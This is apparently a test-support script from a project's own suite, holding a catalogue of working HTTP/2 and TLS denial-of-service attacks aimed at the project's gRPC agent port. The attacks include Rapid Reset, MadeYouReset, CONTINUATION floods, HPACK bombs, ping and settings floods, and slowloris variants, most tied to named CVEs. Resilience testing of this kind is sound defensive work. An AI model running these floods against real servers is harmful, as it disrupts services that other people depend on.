"""What a hostile client does to an agent's port, by name: each for some seconds, by so many
connections at a time.

    python tests/support/http2_abuse.py NAME,NAME SECONDS CONNECTIONS TARGET    (JSON: http2.Target)
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass, replace
from itertools import count, cycle

from http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    PUSH,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Closed,
    Peer,
    Target,
    headers,
    message,
    plain,
    raw,
)

STATUS = "/helio.control.v1.Control/Status"
APPLY = "/helio.control.v1.Control/Apply"
STREAM = "/helio.control.v1.Control/Stream"
LIST = "/helio.control.v1.Control/List"
#: SETTINGS' numbers (RFC 9113 section 6.5.2).
_TABLE, _WINDOW = 1, 4
_LAST = (1 << 31) - 1
#: Streams that are opened, or frames that are sent, at one time.
_MANY = 500
#: Seconds that one waits for an agent that does not read, before it comes again.
_BLOCKED = 0.3


@dataclass
class Attack:
    """One attacker, until a moment. `done`: how often it did what it does; `ended`: how many of its
    connections were refused or broken off."""

    target: Target
    until: float
    done: int = 0
    ended: int = 0

    @property
    def going(self) -> bool:
        return time.monotonic() < self.until or not self.done + self.ended

    def peers(self, settings: Mapping[int, int] | None = None) -> Iterator[Peer]:
        """A connection, and another when that is over; the caller leaves one by `Closed`."""
        while self.going:
            try:
                peer = Peer(self.target, settings)
            except Closed:
                self.ended += 1
                threading.Event().wait(0.02)
                continue
            with peer:
                yield peer

    def flood(
        self, make: Callable[[Peer], bytes], *, read: bool = True,
        settings: Mapping[int, int] | None = None,
    ) -> None:  # fmt: skip
        """Send what is made, again and again; `read`: what is answered."""
        for peer in self.peers(settings):
            peer.socket.settimeout(_BLOCKED)
            try:
                while self.going:
                    peer.send(make(peer))
                    self.done += 1
                    if read:
                        peer.drop()
            except Closed:
                self.ended += 1


ATTACKS: dict[str, Callable[[Attack], None]] = {}


def attack(do: Callable[[Attack], None]) -> Callable[[Attack], None]:
    ATTACKS[do.__name__] = do
    return do


def _begun(path: str = STATUS) -> bytes:
    return plain(headers(path))


# ---- streams ------------------------------------------------------------------------------------


@attack
def rapid_reset(it: Attack) -> None:
    """CVE-2023-44487: streams that are opened and reset at once."""
    block = _begun()
    cancel = CANCEL.to_bytes(4, "big")

    def make(peer: Peer) -> bytes:
        numbers = (peer.stream() for _ in range(_MANY))
        return b"".join(
            raw(HEADERS, END_HEADERS, n, block) + raw(RST_STREAM, 0, n, cancel) for n in numbers
        )

    it.flood(make)


@attack
def rapid_reset_of_requests(it: Attack) -> None:
    """The same behind a whole request, which the agent begins to carry out."""
    block, body = _begun(LIST), message(b"")
    cancel = CANCEL.to_bytes(4, "big")

    def make(peer: Peer) -> bytes:
        numbers = (peer.stream() for _ in range(20))
        return b"".join(
            raw(HEADERS, END_HEADERS, n, block) + raw(DATA, END_STREAM, n, body)
            + raw(RST_STREAM, 0, n, cancel) for n in numbers
        )  # fmt: skip

    it.flood(make)


@attack
def made_you_reset(it: Attack) -> None:
    """CVE-2025-8671: the agent is made to reset streams itself, by frames that are wrong."""
    block = _begun()
    wrong: Iterator[Callable[[int], bytes]] = cycle((
        lambda n: raw(WINDOW_UPDATE, 0, n, bytes(4)),
        lambda n: raw(WINDOW_UPDATE, 0, n, _LAST.to_bytes(4, "big")),
        lambda n: raw(DATA, END_STREAM, n) + raw(DATA, 0, n, b"more"),
        lambda n: raw(PRIORITY, 0, n, n.to_bytes(4, "big") + b"\x00"),
    ))  # fmt: skip

    def make(peer: Peer) -> bytes:
        how, numbers = next(wrong), [peer.stream() for _ in range(50)]
        return b"".join(raw(HEADERS, END_HEADERS, n, block) + how(n) for n in numbers)

    it.flood(make)


@attack
def streams_beyond_the_limit(it: Attack) -> None:
    """As many as numbers allow, none of which is ever ended."""
    block = _begun(APPLY)
    it.flood(lambda p: b"".join(raw(HEADERS, END_HEADERS, p.stream(), block) for _ in range(_MANY)))


@attack
def half_closed(it: Attack) -> None:
    """Calls whose request never comes, or comes a byte at a time; as many as are let in."""
    for peer in it.peers():
        try:
            streams = [peer.call(headers(path), None) for path in (APPLY, STREAM) * 16]
            for byte in cycle(message(bytes(200))):
                if not it.going:
                    break
                for stream in streams:
                    peer.send(raw(DATA, 0, stream, bytes((byte,))))
                    it.done += 1
                peer.drop()
                threading.Event().wait(0.05)
        except Closed:
            it.ended += 1


@attack
def goaway(it: Attack) -> None:
    """Says that it leaves, and stays; and leaves while calls are carried out."""
    block, body = _begun(), message(b"")
    leaving = raw(GOAWAY, 0, 0, bytes(8))

    def make(peer: Peer) -> bytes:
        n = peer.stream()
        call = raw(HEADERS, END_HEADERS, n, block) + raw(DATA, END_STREAM, n, body)
        return leaving + call + leaving * 20

    for peer in it.peers():
        with suppress(Closed):
            for _ in range(50):
                peer.send(make(peer))
                it.done += 1
                peer.drop()
        it.ended += 1


# ---- headers ------------------------------------------------------------------------------------


@attack
def continuation_flood(it: Attack) -> None:
    """CVE-2024-27316 and its like: a header block that never ends."""
    fields = plain(headers(STATUS))
    more = plain([(f"x-{number}", "y" * 100) for number in range(100)])

    def make(peer: Peer) -> bytes:
        if peer.stream() == 1:
            return raw(HEADERS, 0, 1, fields)
        return raw(CONTINUATION, 0, 1, more)

    it.flood(make)


@attack
def empty_continuations(it: Attack) -> None:
    def make(peer: Peer) -> bytes:
        first = raw(HEADERS, 0, 1, plain(headers(STATUS))) if peer.stream() == 1 else b""
        return first + raw(CONTINUATION, 0, 1) * 1000

    it.flood(make)


@attack
def hpack_bomb(it: Attack) -> None:
    """One large entry of the dynamic table, named again and again: 4 KB a byte."""
    entry = b"\x40\x01a" + b"\x7f" + b"\xd1\x1e" + b"x" * 4048  # 127 + 3921: RFC 7541 section 5.1
    large = plain(headers(STATUS)) + entry

    def make(peer: Peer) -> bytes:
        n = peer.stream()
        block = (large if n == 1 else plain(headers(STATUS))) + b"\xbe" * 12000
        return raw(HEADERS, END_HEADERS | END_STREAM, n, block)

    it.flood(make)


@attack
def hpack_tables(it: Attack) -> None:
    """The dynamic table's size changed thousands of times, and entries that push each other out."""
    sizes = cycle((b"\x20" + b"\x3f\xe1\x1f", b"\x3f\xff\xff\xff\xff\x0f", b"\x21"))
    numbers = count()

    def make(peer: Peer) -> bytes:
        changed = next(sizes) * 2
        new = b"".join(b"\x40\x08%08d\x04abcd" % next(numbers) for _ in range(200))
        block = changed + plain(headers(STATUS)) + new
        return raw(HEADERS, END_HEADERS | END_STREAM, peer.stream(), block)

    it.flood(make)


@attack
def header_garbage(it: Attack) -> None:
    """Blocks that are none: indices of nothing, endless integers, Huffman codes that do not end."""
    blocks = cycle((b"\xff\xff\xff\xff\xff\xff\xff\x7f", b"\x80", b"\x00\x84\xff\xff\xff\xff\x00",
                    b"\x00\x7f" + b"\xff" * 200, b"\xfe" * 100, b"\x40\x00\x00" * 500))  # fmt: skip
    it.flood(lambda p: raw(HEADERS, END_HEADERS | END_STREAM, p.stream(), next(blocks)))


@attack
def large_headers(it: Attack) -> None:
    """Of 1 MB, name by name within what a frame may hold."""
    part = plain([("x" * 60, "y" * 100)] * 90)

    def make(peer: Peer) -> bytes:
        n = peer.stream()
        first = raw(HEADERS, 0, n, plain(headers(STATUS)))
        return first + raw(CONTINUATION, 0, n, part) * 64 + raw(CONTINUATION, END_HEADERS, n)

    it.flood(make)


# ---- frames -------------------------------------------------------------------------------------


@attack
def settings_flood(it: Attack) -> None:
    """Each wants an answer, which is not read."""
    it.flood(lambda p: raw(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00") * 1000, read=False)


@attack
def window_sizes(it: Attack) -> None:
    """Settings that change the windows of streams that are open, back and forth."""
    settings = (raw(SETTINGS, 0, 0, b"\x00\x04\x7f\xff\xff\xff")
                + raw(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00")) * 100  # fmt: skip
    block = _begun(APPLY)

    def make(peer: Peer) -> bytes:
        if (n := peer.stream()) < 64:
            return raw(HEADERS, END_HEADERS, n, block)
        return settings

    it.flood(make)


@attack
def ping_flood(it: Attack) -> None:
    it.flood(lambda p: raw(PING, 0, 0, bytes(8)) * 1000, read=False)


@attack
def empty_data(it: Attack) -> None:
    """CVE-2019-9518: frames without content, in a call and for none."""
    block = _begun(STREAM)

    def make(peer: Peer) -> bytes:
        if (n := peer.stream()) == 1:
            return raw(HEADERS, END_HEADERS, n, block)
        return raw(DATA, 0, 1) * 900 + raw(DATA, PADDED, 1, b"\x00") * 100

    it.flood(make)


@attack
def priorities(it: Attack) -> None:
    """CVE-2019-9513: streams that depend on each other, moved about."""
    it.flood(lambda p: b"".join(
        raw(PRIORITY, 0, 2 * n + 1, (2 * n + 3).to_bytes(4, "big") + b"\xff") for n in range(1000)
    ))  # fmt: skip


@attack
def windows(it: Attack) -> None:
    """Windows opened byte by byte, and beyond what there is."""
    it.flood(lambda p: raw(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 1000)


@attack
def unknown_frames(it: Attack) -> None:
    """Of no type, and those that no client may send."""
    kinds = cycle((b"".join(raw(200 + n % 50, 255, n) for n in range(1000)),
                   raw(PUSH, END_HEADERS, 1, b"\x00\x00\x00\x02"), raw(SETTINGS, ACK, 0, b"x"),
                   raw(DATA, 0, 0, b"x"), raw(HEADERS, END_HEADERS, 2, b""),
                   raw(99, 0, 0, bytes(16384))))  # fmt: skip
    it.flood(lambda p: next(kinds))


@attack
def large_frames(it: Attack) -> None:
    """Frames that say that 16 MB follow, and frames that do not fit their kind."""
    lies = cycle((raw(DATA, 0, 1, bytes(65536), (1 << 24) - 1), raw(PING, 0, 0, bytes(9)),
                  raw(SETTINGS, 0, 0, bytes(7)), raw(RST_STREAM, 0, 1, b"x"),
                  raw(WINDOW_UPDATE, 0, 0, b""), raw(GOAWAY, 0, 0, b"x"),
                  raw(HEADERS, END_HEADERS | PADDED, 1, b"\xff")))  # fmt: skip
    it.flood(lambda p: next(lies))


# ---- slowly -------------------------------------------------------------------------------------


@attack
def slow_reader(it: Attack) -> None:
    """Listings that are asked for with a window of nothing, or of a byte now and then."""
    for peer in it.peers({_WINDOW: 0}):
        try:
            streams = [peer.call(headers(LIST), message(b"")) for _ in range(32)]
            while it.going:
                it.done += 1
                peer.send(b"".join(raw(WINDOW_UPDATE, 0, n, b"\x00\x00\x00\x01") for n in streams))
                peer.drop()
                threading.Event().wait(0.05)
        except Closed:
            it.ended += 1


@attack
def deaf(it: Attack) -> None:
    """Asks for listings with all the window there is, and does not read the connection."""
    for peer in it.peers({_WINDOW: _LAST}):
        try:
            peer.send(raw(WINDOW_UPDATE, 0, 0, (_LAST - 65535).to_bytes(4, "big")))
            for _ in range(32):
                peer.call(headers(LIST), message(b""))
                it.done += 1
            while it.going:
                threading.Event().wait(0.05)
        except Closed:
            it.ended += 1


def _drip(it: Attack, made: socket.socket, data: bytes, seconds: float) -> None:
    """A byte at a time."""
    try:
        with made:
            for byte in data:
                if not it.going:
                    return
                made.sendall(bytes((byte,)))
                it.done += 1
                threading.Event().wait(seconds)
    except OSError:
        it.ended += 1


def _slowly(it: Attack, data: bytes, connect: Callable[[Target], socket.socket]) -> None:
    while it.going:
        try:
            _drip(it, connect(it.target), data, 0.1)
        except Closed:
            it.ended += 1
            threading.Event().wait(0.02)


@attack
def slow_headers(it: Attack) -> None:
    """Slowloris: preface and headers a byte at a time."""
    begun = PREFACE + raw(SETTINGS, 0, 0) + raw(HEADERS, 0, 1, _begun())
    _slowly(it, begun + raw(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000), Target.connect)


@attack
def slow_preface(it: Attack) -> None:
    _slowly(it, PREFACE * 100, Target.connect)


# ---- before HTTP/2 ------------------------------------------------------------------------------


def _hello(target: Target) -> bytes:
    """The first bytes of a TLS client."""
    context, coming, going = target.context(), ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(coming, going, server_hostname="agent").do_handshake()
    return going.read()


@attack
def slow_hello(it: Attack) -> None:
    """A TLS hello a byte at a time, each in a record of its own."""
    hello = _hello(it.target)
    body = b"".join(hello[:3] + b"\x00\x01" + bytes((byte,)) for byte in hello[5:])
    _slowly(it, body, Target.reach)


@attack
def idle_connections(it: Attack) -> None:
    """TCP, and then nothing."""
    held: list[socket.socket] = []
    while it.going:
        try:
            made = it.target.reach()
        except Closed:
            it.ended += 1
            continue
        held.append(made)
        it.done += 1
        if len(held) > 2000:
            held.pop(0).close()
        threading.Event().wait(0.001)
    for each in held:
        each.close()


def _connects(it: Attack, then: Callable[[socket.socket], None]) -> None:
    while it.going:
        it.done += 1
        try:
            with it.target.reach() as made:
                then(made)
        except (Closed, OSError):
            it.ended += 1


@attack
def connects(it: Attack) -> None:
    """TCP, and gone again."""
    _connects(it, lambda made: None)


@attack
def plain_text(it: Attack) -> None:
    """HTTP/2, HTTP/1 and noise without TLS where TLS is spoken."""
    said = cycle((PREFACE + raw(SETTINGS, 0, 0), b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", bytes(1000),
                  b"\x16\x03\x01\xff\xff\x01" + bytes(65535), os.urandom(500)))  # fmt: skip

    def then(made: socket.socket) -> None:
        made.sendall(next(said))
        made.recv(1000)

    _connects(it, then)


@attack
def failing_handshakes(it: Attack) -> None:
    """Without the certificate that is asked for."""
    target = replace(it.target, identity="")

    def then(made: socket.socket) -> None:
        with target.context().wrap_socket(made) as tls:
            tls.recv(1)

    _connects(it, then)


@attack
def handshakes(it: Attack) -> None:
    """With a certificate, and gone again."""
    context = it.target.context()

    def then(made: socket.socket) -> None:
        context.wrap_socket(made).close()

    _connects(it, then)


@attack
def calls(it: Attack) -> None:
    """What every client may do, without a pause and without waiting for answers."""
    block, body = _begun(), message(b"")

    def make(peer: Peer) -> bytes:
        numbers = (peer.stream() for _ in range(8))
        return b"".join(
            raw(HEADERS, END_HEADERS, n, block) + raw(DATA, END_STREAM, n, body) for n in numbers
        )

    it.flood(make)


def run(name: str, seconds: float, connections: int, target: Target) -> dict[str, int]:
    until = time.monotonic() + seconds
    made = [Attack(target, until) for _ in range(connections)]
    threads = [threading.Thread(target=ATTACKS[name], args=(each,)) for each in made]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"done": sum(a.done for a in made), "ended": sum(a.ended for a in made)}


def main() -> None:
    names, seconds, connections, target = sys.argv[1:]
    os.nice(10)  # an attacker's processors are not the agent's
    to = Target(**json.loads(target))
    said = {name: run(name, float(seconds), int(connections), to) for name in names.split(",")}
    sys.stdout.write(json.dumps(said) + "\n")


if __name__ == "__main__":
    main()
